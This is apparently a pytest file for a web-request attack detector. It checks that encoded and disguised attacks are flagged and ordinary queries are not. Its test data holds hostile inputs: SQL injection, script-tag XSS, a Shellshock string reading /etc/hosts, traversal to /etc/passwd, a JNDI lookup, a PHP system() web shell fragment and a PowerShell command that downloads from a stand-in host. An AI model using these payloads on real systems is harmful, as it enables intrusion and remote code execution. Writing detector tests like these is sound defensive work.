"""The verdict on whole requests, one by one and in bulk, and on texts made to be slow."""

import base64
import random
import time
from urllib.parse import quote

import polars as pl
import pytest

from pipelines.detect.web.judge import REQUEST_SCHEMA, judge, judge_all
from pipelines.detect.web.match import hits_in
from pipelines.detect.web.prefilter import suspicious
from pipelines.detect.web.signatures import Place, example_uri, load_families

_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"


@pytest.mark.parametrize(
    ("uri", "referrer", "agent", "family"),
    [
        ("/a?b=1'+or+'1'='1", None, _BROWSER, "sql-injection"),
        ("/a?b=1", "https://x.example/?q=%3Cscript%3Ealert(1)%3C/script%3E", _BROWSER,
         "cross-site-scripting"),
        ("/a", None, "() { :;}; /bin/cat /etc/hosts", "command-injection"),
        ("/a?tel=[phone]'+or+1=1--", None, _BROWSER, "sql-injection"),
        ("/a?[email]=1&x=../../etc/passwd", None, _BROWSER, "path-traversal"),
        ("/a?user[$ne]=1", None, None, "sql-injection"),
        ("/a?x=1&%24%7Bjndi%3Aldap%3A%2F%2Fx.example%7D=1", None, None, "jndi-injection"),
        ("/", None, "sqlmap/1.8", "scanner-user-agent"),
    ],
)  # fmt: skip
def test_an_attack_is_found_wherever_it_stands(
    uri: str, referrer: str | None, agent: str | None, family: str
) -> None:
    """In values and names of parameters, beside masked values, in referrer and agent."""
    verdict = judge(uri, referrer, agent)
    assert verdict.is_attack
    assert family in verdict.families


@pytest.mark.parametrize(
    ("uri", "referrer", "agent"),
    [
        ("/search?q=O%27Brien+%26+Sons", None, _BROWSER),
        ("/search?q=select+a+plan+from+the+union", None, _BROWSER),
        ("/search?q=%83%5C%83t%83g+%95%5C%8E%A6", None, _BROWSER),
        ("/search?q=%E3%82%BF%E3%82%A4%E3%83%A4%EF%BC%88%E5%86%AC%EF%BC%89", None, _BROWSER),
        ("/api?filter=%7B%22name%22%3A%22x%22%2C%22or%22%3A%5B1%2C2%5D%7D", None, _BROWSER),
        ("/wp-content/plugins/x/style.css?ver=6.4", "https://www.example/", _BROWSER),
        ("/a?utm_source=a--b&gclid=Cj0KCQiA-bjyBRCcARIsAFboWg1_x-Yh", None, _BROWSER),
        ("/login?tel=[phone]&mail=[email]", None, _BROWSER),
        ("/", None, None),
    ],
)
def test_what_people_send_is_no_attack(uri: str, referrer: str | None, agent: str | None) -> None:
    """Names, prose, Japanese in three encodings, JSON, campaigns, masked values."""
    assert not judge(uri, referrer, agent).is_attack


@pytest.mark.parametrize(
    "value",
    [
        "java.io.BufferedReader", "concat(a,b)", "sysobjects", "Get-ChildItem", "ls+-l",
        "if+not+exist+a.txt", "process.env", "base64_decode", "php.ini", "tempdb",
    ],
)  # fmt: skip
def test_what_one_may_ask_about_is_an_attack_in_other_parameters_only(value: str) -> None:
    """The same words are a question in a field for search words, and a probe elsewhere."""
    assert judge(f"/a?x={value}", None, _BROWSER).is_attack
    assert not judge(f"/search?q={value}", None, _BROWSER).is_attack
    assert not judge("/", f"https://search.example/find?query={value}", _BROWSER).is_attack


@pytest.mark.parametrize(
    "value",
    [
        "how+does+%27+or+1%3D1--+work", "php+system%28%27id%27%29+vs+exec%28%29",
        "%3Ciframe+src%3D//x.example%3E+%E3%81%A8%E3%81%AF",
    ],
)  # fmt: skip
def test_a_question_about_code_is_an_attack_in_other_parameters_only(value: str) -> None:
    """Words of somebody who asks count in a field for search words, and nowhere else."""
    assert judge(f"/a?x={value}", None, _BROWSER).is_attack
    assert not judge(f"/search?q={value}", None, _BROWSER).is_attack


@pytest.mark.parametrize(
    ("words", "attack"),
    [
        ("install+with+%60pip+install+a%60+and+go", "%60pip+install+a%60"),
        ("files+in+c:%5Cwindows%5Csystem32+of+old", "c:%5Cwindows%5Csystem32%5Ca"),
        ("how+sleep(5)+works+in+php", "1+and+sleep(5)"),
    ],
)
def test_a_field_for_words_is_judged_by_whether_its_value_reads_as_words(
    words: str, attack: str
) -> None:
    """The same form within a sentence is no attack, and alone it is one."""
    assert not judge(f"/search?q={words}", None, _BROWSER).is_attack
    assert judge(f"/search?q={attack}", None, _BROWSER).is_attack


def test_base64_within_base64_and_of_utf_16_is_read() -> None:
    """As filters are passed, and as PowerShell takes its commands."""
    inner = base64.b64encode(b"<script>alert(1)</script>")
    wide = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode("utf-16-le")
    for octets in (inner, wide):
        encoded = base64.b64encode(octets).decode()
        assert judge(f"/a?x={quote(encoded, safe='')}", None, _BROWSER).is_attack


@pytest.mark.parametrize("before", ["", "x", "xy", "xyz"])
@pytest.mark.parametrize(
    "payload", ["1 and (select sleep(5))--", "<script>alert(1)</script>", "<?php system($_GET[1]);"]
)
def test_an_attack_in_base64_is_read(before: str, payload: str) -> None:
    """At each of the three places in which it may stand, with and without its ending."""
    encoded = base64.b64encode(f"{before}{payload}".encode()).decode()
    for text in (encoded, encoded.rstrip("="), quote(encoded, safe="")):
        assert suspicious(Place.QUERY, pl.Series([f"x={text}"])).all()
        assert judge(f"/a?x={text}", None, _BROWSER).is_attack


@pytest.mark.parametrize("text", ["runner", "<?xml version", "select-one", '{"theme":"dark"}'])
def test_base64_of_other_texts_is_left_alone(text: str) -> None:
    """What applications carry about in base64 is no attack."""
    encoded = base64.b64encode(text.encode()).decode()
    assert not judge(f"/a?x={encoded}", None, _BROWSER).is_attack


def test_hints_add_up_within_a_request() -> None:
    """A door's name and a parameter for commands are an attack together, and neither alone."""
    assert not judge("/x.php", None, _BROWSER).is_attack
    assert not judge("/guide?cmd=x", None, _BROWSER).is_attack
    assert judge("/x.php?cmd=x", None, _BROWSER).is_attack


def test_bulk_and_single_verdicts_are_the_same() -> None:
    """The rows of a frame are judged as each by itself, in order."""
    rows = [
        (example_uri(one.example, family.targets_of(one)), None, _BROWSER)
        for family in load_families().values()
        for one in family.signatures[:6]
        if one.example
    ]
    frame = pl.DataFrame([*rows, ("/plain", None, None)], schema=REQUEST_SCHEMA, orient="row")
    assert judge_all(frame) == [judge(*row) for row in frame.iter_rows()]


def _mutated(rng: random.Random, texts: list[str]) -> str:
    """Pieces of attacks cut and joined at random, with noise between them."""
    pieces = []
    for _ in range(rng.randint(1, 4)):
        text = rng.choice(texts)
        begin = rng.randrange(len(text))
        pieces.append(text[begin : begin + rng.randint(1, 24)])
        pieces.append("".join(chr(rng.randrange(32, 127)) for _ in range(rng.randint(0, 4))))
    return "".join(pieces)


@pytest.mark.further
def test_the_prefilter_misses_nothing_in_mutated_attacks() -> None:
    """What the signatures find in a hundred thousand random texts has passed the prefilter."""
    rng = random.Random(20261124)  # noqa: S311 - the same texts on every run
    texts = [
        example_uri(one.example, family.targets_of(one)).partition("?")[2]
        for family in load_families().values()
        for one in family.signatures
    ]
    drawn = pl.Series([_mutated(rng, [text for text in texts if text]) for _ in range(100_000)])
    passed = suspicious(Place.QUERY, drawn)
    kept_back = drawn.filter(~passed)
    strong = [(text, hit) for text in kept_back for hit in hits_in(Place.QUERY, text)]
    assert strong == []
    assert passed.sum() > len(drawn) // 2


@pytest.mark.parametrize(
    "unit",
    [
        "/*", "*/", "'", '"+"', "${", "${lower:", "{{", "<a ", "--\r", "../", "%25", "%u0027",
        "&#39;", "a,", "'||'", "(select ", "${::-", "\\x27", "/?", "and 1=", "a=b&", "%c0%ae", "＜",
    ],
)  # fmt: skip
def test_time_grows_no_faster_than_the_text(unit: str) -> None:
    """Eight times the text takes at most forty times as long: nothing grows with the square."""
    costs = []
    for times in (1_000, 8_000):
        began = time.process_time()
        for _ in range(3):
            hits_in(Place.QUERY, f"q={unit * times}")
        costs.append(time.process_time() - began)
    assert costs[1] <= 40 * max(costs[0], 0.005)
